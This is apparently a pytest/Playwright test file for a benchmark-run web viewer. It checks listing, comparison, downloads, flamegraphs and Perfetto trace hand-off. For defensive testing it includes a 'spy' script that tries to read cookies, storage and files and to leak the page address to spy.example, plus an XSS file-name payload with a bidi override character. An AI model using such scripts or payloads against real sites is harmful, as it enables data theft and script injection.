from __future__ import annotations

import dataclasses
import gzip
import os
import threading
from functools import partial
from typing import TYPE_CHECKING

import pytest
from sample_compare import write_two
from sample_run import make_info, write_run
from sample_verdict import HOSTILE, hostile_verdict, make_verdict

import reports
from benchsuite.view.address import Addresses
from benchsuite.view.library import Library
from benchsuite.view.server import Server
from benchsuite.view.site import Pages, Site
from reports import view

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import BrowserContext, Page

RUN = "20260302T091407Z-5ca1ab"
BEFORE, AFTER = "20260201T000000Z-before", "20260201T000001Z-after"
TRACE = gzip.compress(os.urandom(50_000))
TRACE_PATH = "artifacts/compile-mode=default/operators-0/trace.json.gz"
FLAMEGRAPH_PATH = "artifacts/compile-mode=default/memory-0/flamegraph.html"
SPY_PATH = "artifacts/compile-mode=default/memory-0/spy.html"
WIDTHS = (375, 768, 1600)
PERFETTO = "https://ui.perfetto.dev/"
STAND_IN = """<!doctype html><title>stand-in</title><script>
window.pings = 0;
addEventListener("message", (event) => {
  if (event.data === "PING") {
    window.pings += 1;
    if (window.pings > 1) event.source.postMessage("PONG", event.origin);
  } else {
    const { buffer, title } = event.data.perfetto;
    window.got = { title, origin: event.origin, bytes: [...new Uint8Array(buffer)] };
  }
});
</script>"""
ELSEWHERE = """<!doctype html><title>elsewhere</title><script>
window.got = 0;
window.asked = 0;
addEventListener("message", () => { window.got += 1; });
setInterval(() => { opener.postMessage("PONG", "*"); window.asked += 1; }, 50);
</script>"""
SPY = """<!doctype html><title>spy</title><script>
const tried = { address: location.href, referrer: document.referrer, origin: String(self.origin) };
const attempt = async (name, action) => {
  try { tried[name] = `reached: ${await action()}`; } catch (error) { tried[name] = `refused: ${error.name}`; }
};
(async () => {
  await attempt("storage", () => localStorage.length);
  await attempt("cookie", () => document.cookie);
  await attempt("fetch", () => fetch("../../../run.json").then((answer) => answer.text()));
  await attempt("image", () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = resolve;
    image.onerror = () => reject(new Error("no image"));
    image.src = "https://spy.example/" + encodeURIComponent(location.href);
  }));
  await attempt("opener", () => window.opener.document.title);
  window.tried = tried;
})();
</script>"""


@dataclasses.dataclass(frozen=True)
class Served:
    """A server's addresses."""

    place: str
    addresses: Addresses
    root: Path

    def url(self, run: str = "", file: str = "") -> str:
        return self.place + (self.addresses.of(run, file) if run else self.addresses.index())


def draw_flamegraph(target: Path) -> None:
    """Let memray draw a flamegraph as the memory pass does."""
    memray = pytest.importorskip("memray")
    from benchsuite.worker.captures import Capture

    capture = target.with_suffix(".bin")
    with memray.Tracker(capture):
        kept = [bytearray(1_000_000) for _ in range(5)]
    Capture(capture).write_leak_flamegraph(target)
    capture.unlink()
    del kept


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A folder of runs: two whole, a gate, a hostile one, a broken one, one of a newer benchsuite."""
    root = tmp_path_factory.mktemp("served") / "runs"
    run = write_run(root)
    for kept, made in zip((BEFORE, AFTER), write_two(root.parent / "two"), strict=True):
        made.rename(root / kept)
    for path in (TRACE_PATH, FLAMEGRAPH_PATH, SPY_PATH):
        (run / path).parent.mkdir(parents=True, exist_ok=True)
    (run / TRACE_PATH).write_bytes(TRACE)
    (run / SPY_PATH).write_text(SPY, encoding="utf-8")
    draw_flamegraph(run / FLAMEGRAPH_PATH)
    hostile = make_info(task=HOSTILE, task_name=HOSTILE, commit=HOSTILE, command=(HOSTILE,), started=HOSTILE)
    write_run(root / "made", hostile, []).rename(root / "<b onclick=alert(1)>&amp;\u202e'\"")
    (root / "made").rmdir()
    for name, verdict in (
        ("20260101T000000Z-gate", make_verdict()),
        ("20260101T000000Z-hostile", hostile_verdict()),
    ):
        write_run(root / "made", make_info(kind="gate", started="2026-01-01T00:00:00Z"), []).rename(
            root / name
        )
        (root / "made").rmdir()
        reports.write_verdict(verdict, root / name)
    for name, header in (("20260102T000000Z-newer", '{"schema": 9}'), ("20260102T000000Z-broken", HOSTILE)):
        (root / name).mkdir()
        (root / name / "run.json").write_text(header, encoding="utf-8", errors="replace")
    addresses = Addresses()
    pages = Pages(
        index=partial(view.index_page, root),
        files=view.files_page,
        comparison=view.comparison_page,
        report=view.report_page,
        trace=view.trace_page,
        trouble=view.trouble_page,
    )
    faults: list[str] = []
    with Server(Site(Library(root), addresses, pages), 0, faults.append) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield Served(f"http://127.0.0.1:{server.server_port}", addresses, root)
        server.shutdown()
        thread.join()
    assert faults == []


@pytest.fixture
def context(browser, served: Served) -> Iterator[BrowserContext]:
    """A window in which every error, and every request to another place, fails the test."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    faults: list[str] = []

    def watch(page: Page) -> None:
        page.on(
            "console",
            lambda message: faults.append(message.text) if message.type in {"error", "warning"} else None,
        )
        page.on("pageerror", lambda error: faults.append(str(error)))
        page.on("dialog", lambda dialog: faults.append(f"dialog: {dialog.message}"))

    def check(request) -> None:
        if not request.url.startswith((f"{served.place}/", "data:", "blob:", PERFETTO)):
            faults.append(request.url)

    context.on("page", watch)
    context.on("request", check)
    yield context
    context.close()
    assert faults == []


@pytest.fixture
def page(context: BrowserContext) -> Page:
    return context.new_page()


def test_all_runs_are_listed_the_newest_first(page: Page, served: Served) -> None:
    page.goto(served.url())
    shown = page.locator(".shelf .found").all_inner_texts()
    # The hostile run says no time, so its directory's counts: now.
    order = ["<b onclick", BEFORE, AFTER, RUN, "Z-broken", "Z-newer", "Z-gate", "Z-hostile"]
    assert [next(name for name in order if name in text) for text in shown] == order
    assert [text.split("\n")[0] for text in shown[3:]] == [
        "Finished, 5 trials failed",
        "Broken",
        "Broken",
        "Failed",
        "Failed",
    ]
    assert "schema 9" in page.locator(".problem").all_inner_texts()[1]


@pytest.mark.slow
def test_a_report_is_built_where_it_is_missing_and_works_as_from_a_file(page: Page, served: Served) -> None:
    (served.root / RUN / "report.html").unlink(missing_ok=True)
    page.goto(served.url())
    page.get_by_role("link", name=f"Report of {RUN}").click()
    page.wait_for_url(served.url(RUN, "report.html"))
    assert page.get_by_role("heading", name="Answers").is_visible()
    assert (served.root / RUN / "report.html").is_file()
    page.get_by_role("button", name="Throughput", exact=True).first.click()
    assert page.locator("th[aria-sort=ascending]").count() == 1
    page.locator("#theme").click()
    assert page.evaluate("document.documentElement.dataset.theme") == "light"


def test_two_runs_of_the_list_are_compared(page: Page, served: Served) -> None:
    page.goto(served.url())
    page.get_by_role("radio", name=f"A: {BEFORE}").check()
    page.get_by_role("radio", name=f"B: {AFTER}").check()
    page.get_by_role("button", name="Compare A with B").click()
    page.wait_for_url(served.place + served.addresses.comparison(BEFORE, AFTER))
    assert page.locator("h1").inner_text() == "1 slower, 1 hungrier, 1 faster"
    links = page.locator(".files a")
    assert links.count() == 3
    for link in links.all():
        target = served.place + (link.get_attribute("href") or "")
        assert page.request.get(target).body() == b"what a pass has left"
    page.get_by_role("link", name="All runs").click()
    page.wait_for_url(served.url())


@pytest.mark.slow
def test_the_files_of_a_run_are_shown_and_saved(page: Page, served: Served) -> None:
    page.goto(served.url(RUN))
    with page.expect_download() as saved:
        page.get_by_role("link", name="records.jsonl").click()
    assert saved.value.path().read_bytes() == (served.root / RUN / "records.jsonl").read_bytes()
    with page.expect_download() as saved:
        page.get_by_role("link", name="Save compile-mode=default trace.json.gz").click()
    assert saved.value.suggested_filename == "trace.json.gz"
    assert saved.value.path().read_bytes() == TRACE
    page.get_by_role("link", name="run.json").click()
    assert '"schema": 1' in page.locator("body").inner_text()
    page.go_back()
    page.get_by_role("link", name="All runs").click()
    assert page.url == served.url()


@pytest.mark.slow
def test_the_flamegraph_of_memray_works_in_its_sandbox(page: Page, served: Served) -> None:
    page.goto(served.url(RUN))
    page.get_by_role("link", name="flamegraph.html").click()
    page.locator("#chart svg g").first.wait_for()
    assert page.evaluate("self.origin") == "null"
    page.get_by_role("button", name="Stats", exact=True).click()
    page.locator("#statsModal.show").wait_for()
    page.reload()
    page.get_by_role("button", name="Memory Graph").click()
    page.locator("#memoryModal.show .plotly svg, #memoryModal.show svg.main-svg").first.wait_for()


def test_a_document_that_others_wrote_reaches_nothing(browser, served: Served) -> None:
    context = browser.new_context()
    sent: list[str] = []
    context.route("https://spy.example/**", lambda route: (sent.append(route.request.url), route.abort()))
    page = context.new_page()
    page.goto(served.url())
    page.get_by_role("link", name=f"Files of {RUN}").click()
    page.get_by_role("link", name="spy.html").click()
    page.wait_for_function("window.tried")
    tried = page.evaluate("window.tried")
    context.close()
    assert tried["origin"] == "null"
    assert tried["referrer"] == ""
    assert served.addresses.index().strip("/") not in tried["address"]
    for name in ("storage", "cookie", "fetch", "image", "opener"):
        assert tried[name].startswith("refused"), name
    assert sent == []


def test_a_trace_is_handed_to_perfetto_byte_by_byte(
    context: BrowserContext, page: Page, served: Served
) -> None:
    context.route(f"{PERFETTO}**", lambda route: route.fulfill(body=STAND_IN, content_type="text/html"))
    page.goto(served.url(RUN))
    page.get_by_role("link", name="trace.json.gz", exact=True).click()
    with context.expect_page() as opened:
        page.get_by_role("button", name="Open in Perfetto").click()
    opened.value.wait_for_function("window.got")
    got = opened.value.evaluate("window.got")
    assert bytes(got["bytes"]) == TRACE
    assert got["title"] == f"{RUN} compile-mode=default operators-0"
    assert got["origin"] == served.place
    assert opened.value.url == PERFETTO
    assert page.locator("#status").inner_text() == "Perfetto has the trace."
    assert opened.value.evaluate("document.referrer") == ""


@pytest.mark.slow
def test_a_trace_goes_to_no_other_site(browser, served: Served) -> None:
    context = browser.new_context()
    leave = "<script>location = 'https://elsewhere.example/';</script>"
    context.route(f"{PERFETTO}**", lambda route: route.fulfill(body=leave, content_type="text/html"))
    context.route(
        "https://elsewhere.example/**", lambda route: route.fulfill(body=ELSEWHERE, content_type="text/html")
    )
    page = context.new_page()
    page.goto(served.url(RUN, TRACE_PATH))
    with context.expect_page() as opened:
        page.get_by_role("button", name="Open in Perfetto").click()
    opened.value.wait_for_function("window.asked > 10")
    assert opened.value.evaluate("window.got") == 0
    assert page.locator("#status").inner_text() == "Waiting for Perfetto…"
    context.close()


def test_without_a_network_a_trace_is_saved(context: BrowserContext, page: Page, served: Served) -> None:
    page.goto(served.url(RUN, TRACE_PATH))
    context.set_offline(offline=True)
    page.get_by_text("There is no network").wait_for()
    context.set_offline(offline=False)
    with page.expect_download() as saved:
        page.get_by_role("link", name="save the trace").click()
    assert saved.value.path().read_bytes() == TRACE


@pytest.mark.slow
@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_sticks_out(page: Page, served: Served, width: int, scheme: str) -> None:
    page.set_viewport_size({"width": width, "height": 900})
    page.emulate_media(color_scheme=scheme)
    compared = served.place + served.addresses.comparison(BEFORE, AFTER)
    for url in (served.url(), compared, served.url(RUN), served.url(RUN, TRACE_PATH)):
        page.goto(url)
        assert (
            page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") == 0
        )


@pytest.mark.slow
def test_hostile_runs_are_text(page: Page, served: Served) -> None:
    page.goto(served.url())
    assert page.title() == "Runs · benchsuite"
    assert page.locator("img").count() == 0
    assert page.locator("script").count() == 1
    assert page.locator("b").count() == 0
    text = page.locator("body").inner_text()
    assert "<script>document.title" in text
    assert "\u202e" not in text
    hrefs = [link.get_attribute("href") for link in page.get_by_role("link", name="Files of").all()]
    for href in hrefs:
        page.goto(served.place + href)
        assert page.locator("img, b").count() == 0
        assert page.get_by_role("link", name="report.html", exact=True).is_visible()
